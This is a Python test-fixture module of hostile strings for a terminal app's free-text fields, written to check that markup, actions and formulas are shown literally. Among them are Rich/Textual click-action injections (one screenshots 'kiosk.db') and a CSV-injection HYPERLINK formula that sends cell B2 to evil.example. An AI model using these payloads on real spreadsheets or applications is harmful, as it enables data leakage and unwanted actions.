"""Hostile strings for every free-text field (issue 15): markup, actions, links, escapes,
invisible and bidi characters, rare CJK, very long text and spreadsheet formulas.

Tests put these into notes, reasons, outcomes, complaint texts, explanations, addresses and
names (where a field accepts them) and assert that every screen shows them literally (or cut with
…), that no action or link reaches the screen, and that no export carries a formula. Each string
holds SENTINEL, so a test can tell stored text from catalog text wherever it meets it.
"""

from __future__ import annotations

#: a marker that no catalog string contains: text holding it came from a person
SENTINEL = "䶮"

#: markup and actions (Rich/Textual markup in every shape that has hurt us)
MARKUP = [
    f"客户说：[/] 谢谢{SENTINEL}",
    f"[quote]原帖{SENTINEL}[/quote2]",
    f"[@click=app.screenshot('kiosk.db','/tmp')]新客户名单{SENTINEL}[/]",
    f"[@click=app.suspend_process]请点此确认{SENTINEL}[/]",
    f"[@click=app.switch_mode('login')]重新登录{SENTINEL}[/]",
    f"[red]红字[/red][reverse]反显{SENTINEL}[/reverse]",
    f"[link=https://evil.example/]官网{SENTINEL}[/link]",
    f"[b]未闭合{SENTINEL}",
    f"\\[转义]{SENTINEL}[/]",
    f"[on red]{SENTINEL}[/on red][blink]闪[/]",
]

#: spreadsheet formulas (OWASP CSV injection): cells that begin with = + - @ tab CR
FORMULAS = [
    f'=HYPERLINK("http://evil.example/?"&B2,"详情{SENTINEL}")',
    f"+1+1{SENTINEL}",
    f"-2+3{SENTINEL}",
    f"@SUM(A1:A9){SENTINEL}",
    f"\t=1+1{SENTINEL}",
    f"\r=1+1{SENTINEL}",
]

#: text that must be normalised or refused rather than stored as it is
INVISIBLE = [
    "\u200b" * 10,            # ten zero-width spaces: no visible character
    "\u202e" * 3,             # right-to-left override marks
    "\ufeff",                 # a lone byte-order mark
    "\u200d\u2060\u200c",     # joiners and a word joiner
]

#: real text that must survive as it is (rare CJK outside the BMP, bidi-neutral punctuation)
RARE = [
    f"𠮷野家{SENTINEL}",
    f"王䶮{SENTINEL}",
    f"地址：北京市朝阳区𠮷祥路 8 号 (B座) 【备注】{SENTINEL}",
]

#: 4,000 characters
LONG = (f"长文本{SENTINEL}" * 1000)[:4000]

#: everything a free-text field should be able to hold and show literally
SHOWN = MARKUP + FORMULAS[:4] + RARE + [LONG]

ALL = MARKUP + FORMULAS + INVISIBLE + RARE + [LONG]
